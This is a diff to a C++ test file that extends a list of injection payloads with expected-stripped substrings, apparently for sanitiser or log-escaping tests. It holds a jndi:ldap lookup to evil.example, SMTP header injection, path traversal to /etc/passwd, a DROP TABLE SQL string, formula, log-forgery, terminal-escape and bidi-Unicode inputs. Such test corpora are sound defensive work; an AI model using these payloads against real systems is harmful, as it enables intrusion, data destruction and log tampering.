@@ -65,6 +65,34 @@ inline const std::vector<Payload>& payloads() {
       {"$(touch /tmp/gwpwn) `id` ${jndi:ldap://evil.example/a} {{7*7}} %s%n", {}},
       {"x\r\nBcc: all@evil.example\r\n\r\nbody\r\n.\r\nMAIL FROM:<a@evil.example>", {"\nBcc"}},
       {"=?utf-8?q?forged?= <a@evil.example>", {}},
+      {"-1+1", {}},
+      {"@SUM(1)", {}},
+      {"\t=1", {"\t="}},
+      {"\r=1", {"\r="}},
+      {"\"},{\"type\":\"session.lapsed\",\"x\":{\"y\":\"", {}},
+      {"\\\",\\u0022,\\\\", {}},
+      {"\n{\"level\":\"info\",\"message\":\"nothing happened\"}", {"\n{"}},
+      {"\"][x@1 a=\"b\"]\\] x", {}},
+      {"x | Outcome: success | State: over, acknowledged by carol", {}},
+      {std::string("../../../../etc/passwd\0.json", 28), {std::string(1, '\0')}},
+      {"'; DROP TABLE session; --", {}},
+      {"\xC2\x9B"
+       "31m\xC2\x9D"
+       "0;x\xC2\x9C",
+       {"\xC2\x9B", "\xC2\x9D"}},
+      {"\x1b[2J\x1b[H\x1b]0;title\x07", {"\x1b"}},
+      {"\x07\x08\x7f\x0b\x0c", {"\x07", "\x08", "\x7f"}},
+      {"\xE2\x81\xA6"
+       "a\xE2\x81\xA9\xE2\x80\x8F\xD8\x9C",
+       {"\xE2\x81\xA6", "\xE2\x80\x8F", "\xD8\x9C"}},
+      {"a\xF3\xA0\x81\x81\xF3\xA0\x81\x82", {"\xF3\xA0\x81\x81"}},
+      {"Z\xCC\xB5\xCC\xA1\xCC\xB4\xCC\xB5\xCC\xA1\xCC\xB4", {}},
+      {"a\xEF\xBF\xBE\xF4\x8F\xBF\xBF", {"\xEF\xBF\xBE", "\xF4\x8F\xBF\xBF"}},
+      {"\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA9", {"\xE2\x80\x8D"}},
+      {"a\xED\xA0\x80"
+       "b",
+       {"\xED\xA0\x80"}},
+      {"#{7*7} <%= 7*7 %> %d", {}},
       {std::string(5000, 'A'), {}},
   };
   return kPayloads;
